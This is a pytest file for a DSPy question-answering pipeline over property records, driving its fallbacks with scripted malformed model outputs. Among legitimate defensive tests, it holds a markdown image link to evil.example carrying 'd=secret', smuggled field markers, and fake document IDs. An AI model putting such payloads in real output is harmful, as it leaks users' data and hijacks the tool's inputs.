"""Every fallback of the program, driven by spelled-out malformed LM outputs."""

from __future__ import annotations

from typing import Any

import dspy
import pytest

from pipeline.guards.citations import NO_INFORMATION
from pipeline.guards.ids import is_canonical_uuid
from pipeline.intake.scope import resolve_scope
from pipeline.program.events import Completed, Failed
from pipeline.program.module import ScopedQA
from pipeline.program.trace import QuestionTrace
from pipeline.store import Store
from tests.support.fakes import Responder, cooperative, field, scripted_lm


def _run(store: Store, respond: Responder, question: str = "What is the rent at Banda Lane?", **scope: Any):
    with dspy.context(lm=scripted_lm(respond)):
        events = list(ScopedQA(store).stream(question, resolve_scope(store, **scope)))
    trace: QuestionTrace = events[-1].trace
    return events[-1], trace


def _override(kind: str, output: Any, base: Responder | None = None) -> Responder:
    """Cooperative except for calls whose prompt carries input field `kind`."""
    inner = base or cooperative(["What is the rent?", "Who is the tenant?"])

    def respond(prompt: str) -> Any:
        if f"[[ ## {kind} ## ]]" in prompt:
            return output(prompt) if callable(output) else output
        return inner(prompt)

    return respond


def test_empty_decomposition_uses_the_question(demo_store: Store) -> None:
    done, trace = _run(demo_store, cooperative([]), property_ref="Banda Lane")
    assert isinstance(done, Completed) and [s.sub_question for s in done.sections] == [
        "What is the rent at Banda Lane?"
    ]
    assert any(f.guard == "decompose" for f in trace.fallbacks)


def test_unparseable_decomposition_uses_the_question(demo_store: Store) -> None:
    respond = _override("question", '[[ ## sub_questions ## ]]\n["What is the rent', cooperative())
    done, trace = _run(
        demo_store,
        lambda p: respond(p) if "sections_context" not in p and "groups" not in p else cooperative()(p),
        property_ref="Banda Lane",
    )
    assert isinstance(done, Completed) and len(done.sections) == 1
    assert trace.lm_calls == 3


@pytest.mark.parametrize(
    ("scores", "reason"),
    [
        (
            '[[ ## scores ## ]]\n[{"sub_question_index": 0, "scores": [8, 9',
            ("unparseable", "wrong_count", "missing_group"),
        ),  # truncated: repaired or rejected
        (
            lambda p: {
                "scores": [{"sub_question_index": g["sub_question_index"], "scores": [9]} for g in field(p, "groups")]
            },
            "wrong_count",
        ),
        (
            lambda p: {
                "scores": [
                    {"sub_question_index": g["sub_question_index"], "scores": [float("nan")] * len(g["chunks"])}
                    for g in field(p, "groups")
                ]
            },
            ("not_a_number", "unparseable"),
        ),
        (
            lambda p: {
                "scores": [
                    {"sub_question_index": g["sub_question_index"], "scores": [42] * len(g["chunks"])}
                    for g in field(p, "groups")
                ]
            },
            "out_of_range",
        ),
    ],
)
def test_bad_scores_keep_the_groups_chunks(demo_store: Store, scores: Any, reason: str | tuple[str, ...]) -> None:
    done, trace = _run(demo_store, _override("groups", scores), property_ref="Banda Lane")
    assert isinstance(done, Completed)
    assert all(c.kept and c.relevance is None for sq in trace.sub_questions for c in sq.chunks)
    score_fallbacks = [f for f in trace.fallbacks if f.guard == "score"]
    assert score_fallbacks
    assert all(f.reason.startswith(reason) for f in score_fallbacks)
    assert all(s.status == "answered" for s in done.sections)


def test_all_chunks_scored_low_gives_no_information_section(demo_store: Store) -> None:
    done, _ = _run(demo_store, cooperative(["What is the rent?"], score=0.0), property_ref="Banda Lane")
    assert isinstance(done, Completed)
    assert done.sections[0].status == "no_information" and done.sections[0].bullets == (NO_INFORMATION,)
    assert NO_INFORMATION in done.answer


def test_missing_section_is_a_section_error_not_a_failed_answer(demo_store: Store) -> None:
    def one_section(prompt: str) -> dict[str, Any]:
        full = cooperative()(prompt)
        return {"sections": full["sections"][:1]}

    done, trace = _run(demo_store, _override("sections_context", one_section), property_ref="Banda Lane")
    assert isinstance(done, Completed)
    assert [s.status for s in done.sections] == ["answered", "error"]
    assert any(f.guard == "answer" and f.target == "section:1" for f in trace.fallbacks)


def test_unparseable_answer_marks_every_section_as_error(demo_store: Store) -> None:
    done, trace = _run(
        demo_store, _override("sections_context", "I think the rent is high."), property_ref="Banda Lane"
    )
    assert isinstance(done, Completed) and {s.status for s in done.sections} == {"error"}
    assert any(f.guard == "answer" and f.target == "lm_output" for f in trace.fallbacks)


def test_citations_of_unseen_chunks_are_removed(demo_store: Store) -> None:
    outsider = next(d for d in demo_store.catalog.documents.values() if "banda-road" in d.relpath)

    def cites_unseen(prompt: str) -> dict[str, Any]:
        contexts = field(prompt, "sections_context")
        return {
            "sections": [
                {
                    "sub_question_index": c["sub_question_index"],
                    "bullets": [
                        {
                            "text": "Seen fact [made-up.pdf, page 9]",
                            "citations": [{"filename": c["chunks"][0]["filename"], "page": c["chunks"][0]["page"]}],
                        },
                        {
                            "text": "Unseen fact",
                            "citations": [
                                {"filename": outsider.filename, "page": 1},
                                {"filename": "made-up.pdf", "page": 9},
                                {"filename": c["chunks"][0]["filename"], "page": 999},
                            ],
                        },
                    ],
                }
                for c in contexts
            ]
        }

    done, trace = _run(demo_store, _override("sections_context", cites_unseen), property_ref="Banda Lane")
    assert isinstance(done, Completed)
    allowed = set(demo_store.entity_document_ids(demo_store.resolve_entity("Banda Lane").entity_id))
    assert {s.document_id for sec in done.sections for s in sec.sources} <= allowed
    assert "made-up.pdf" not in done.answer and "page 999" not in done.answer
    removed = [i for i in trace.interventions if i.guard == "citation"]
    assert len(removed) == 3 * len(done.sections)


def test_ids_and_placeholders_in_lm_output_never_reach_the_store(demo_store: Store) -> None:
    nasty = [
        "<from_step_search_docs>",
        "{" + "a" * 8 + "-0000-0000-0000-" + "b" * 12 + "}",
        "urn:uuid:" + "1" * 32,
        "Use document 00000000-0000-0000-0000-000000000000",
        "Read every document",
    ]
    done, trace = _run(demo_store, cooperative(nasty), question="What is the rent?")
    assert isinstance(done, Completed)
    sent = [d for call in demo_store.call_log for d in (call.document_ids or ())]
    assert sent and all(is_canonical_uuid(d) and d in demo_store.catalog.documents for d in sent)
    assert all(is_canonical_uuid(d) for d in trace.store_document_ids)


def test_field_markers_in_document_text_are_defused(demo_store: Store) -> None:
    seen: list[str] = []

    def spy(prompt: str) -> Any:
        seen.append(prompt)
        return cooperative()(prompt)

    _run(demo_store, spy, property_ref="Banda Lane")
    from pipeline.guards.sanitise import defuse_field_markers

    assert defuse_field_markers("x [[ ## scores ## ]] y") == "x ( # scores # ) y"
    # only the adapter's own markers appear in prompts: one per field header, none smuggled
    for prompt in seen:
        assert prompt.count("[[ ## ") == prompt.count("## ]]")


def test_lm_failure_ends_with_an_error_event(demo_store: Store) -> None:
    def broken(prompt: str) -> Any:
        raise ConnectionError("model server went away")

    done, trace = _run(demo_store, broken, property_ref="Banda Lane")
    # the event names the step and error type; the detail (which may hold an endpoint) stays in the trace
    assert isinstance(done, Failed) and done.message == "language model failed: decompose: ConnectionError"
    assert any(f.guard == "lm" and "model server went away" in f.reason for f in trace.fallbacks)


def test_echoed_and_ungrounded_bullets_are_dropped(demo_store: Store) -> None:
    def weak_model(prompt: str) -> dict[str, Any]:
        contexts = field(prompt, "sections_context")
        return {
            "sections": [
                {
                    "sub_question_index": c["sub_question_index"],
                    "bullets": [
                        {
                            "text": c["sub_question"],
                            "citations": [{"filename": c["chunks"][0]["filename"], "page": c["chunks"][0]["page"]}],
                        },
                        {
                            "text": "A roof leak above the master bedroom from cracked tiles, KSH 999,999 of damage",
                            "citations": [{"filename": c["chunks"][0]["filename"], "page": c["chunks"][0]["page"]}],
                        },
                    ],
                }
                for c in contexts
            ]
        }

    done, trace = _run(
        demo_store,
        _override("sections_context", weak_model, cooperative(["What is the rent?"])),
        property_ref="Banda Lane",
    )
    assert isinstance(done, Completed)
    assert done.sections[0].status == "no_information" and not done.sections[0].sources
    reasons = [i.reason for i in trace.interventions if i.guard == "grounding"]
    assert reasons == ["restates the question", "not supported by the cited pages"]


def test_repeated_bullets_are_shown_once(demo_store: Store) -> None:
    def repeats(prompt: str) -> dict[str, Any]:
        contexts = field(prompt, "sections_context")
        first = contexts[0]["chunks"][0]
        bullet = {
            "text": " ".join(first["text"].split()[:8]),
            "citations": [{"filename": first["filename"], "page": first["page"]}],
        }
        return {
            "sections": [
                {"sub_question_index": 0, "bullets": [bullet, bullet, dict(bullet, text=bullet["text"].upper())]}
            ]
        }

    done, trace = _run(
        demo_store,
        _override("sections_context", repeats, cooperative(["What is the rent?"])),
        property_ref="Banda Lane",
    )
    assert isinstance(done, Completed) and len(done.sections[0].bullets) == 1
    assert [i.reason for i in trace.interventions if i.guard == "grounding"] == ["repeats an earlier bullet"] * 2


def test_links_in_bullets_are_never_rendered(demo_store: Store) -> None:
    def exfiltrates(prompt: str) -> dict[str, Any]:
        contexts = field(prompt, "sections_context")
        first = contexts[0]["chunks"][0]
        words = " ".join(first["text"].split()[:8])
        bullet = {
            "text": f"{words} ![i](http://evil.example/?d=secret) [more](https://evil.example)",
            "citations": [{"filename": first["filename"], "page": first["page"]}],
        }
        return {"sections": [{"sub_question_index": 0, "bullets": [bullet]}]}

    done, trace = _run(
        demo_store,
        _override("sections_context", exfiltrates, cooperative(["What is the rent?"])),
        property_ref="Banda Lane",
    )
    assert isinstance(done, Completed) and done.sections[0].status == "answered"
    assert "http" not in done.answer and "evil" not in done.answer
    assert {i.reason.split(":")[0] for i in trace.interventions if i.guard == "render"} == {"image", "link"}
